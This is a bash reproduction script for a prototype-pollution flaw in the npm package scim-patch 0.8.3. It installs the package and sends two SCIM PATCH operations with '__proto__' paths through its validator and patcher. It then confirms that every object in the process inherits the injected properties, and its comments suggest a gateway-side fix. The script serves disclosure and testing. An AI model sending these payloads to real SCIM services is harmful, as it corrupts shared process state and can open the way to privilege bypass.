#!/usr/bin/env bash
# Package: scim-patch 0.8.3 (npm).
# Behaviour: an operation whose path, or whose name within a value, begins with `__proto__` sets a property of Object.prototype, which every
#   object of the process then has.
# Why a good guess is wrong: the operations are the body of a request, and `patchBodyValidation` takes them.
# A gateway should: resolve names of attributes in a table of its own, and take none that is not there.
set -euo pipefail
folder=$(mktemp -d)
trap 'rm -rf "$folder"' EXIT
cd "$folder"
npm install --no-save --no-audit --no-fund --loglevel=error --ignore-scripts scim-patch@0.8.3 > /dev/null
cat > run.mjs <<'JS'
import patch from 'scim-patch'

const schemas = ['urn:ietf:params:scim:api:messages:2.0:PatchOp']
const Operations = [
  { op: 'add', path: '__proto__.byPath', value: 'yes' },
  { op: 'add', value: { '__proto__.byName': 'yes' } },
]
patch.patchBodyValidation({ schemas, Operations })
patch.scimPatch({ id: '1' }, Operations)
console.log('of an empty object:', {}.byPath, {}.byName)
if ({}.byPath !== 'yes' || {}.byName !== 'yes') process.exit(1)
JS
node run.mjs || { echo "the behaviour has changed"; exit 1; }
